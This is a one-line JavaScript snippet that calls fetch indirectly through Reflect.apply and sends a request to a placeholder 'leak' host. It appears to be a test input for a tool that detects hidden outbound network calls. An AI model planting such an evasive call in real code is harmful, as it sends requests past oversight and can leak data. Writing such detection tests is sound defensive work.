Reflect.apply(fetch, null, ["https://js-fetch-apply.leak.test/"])
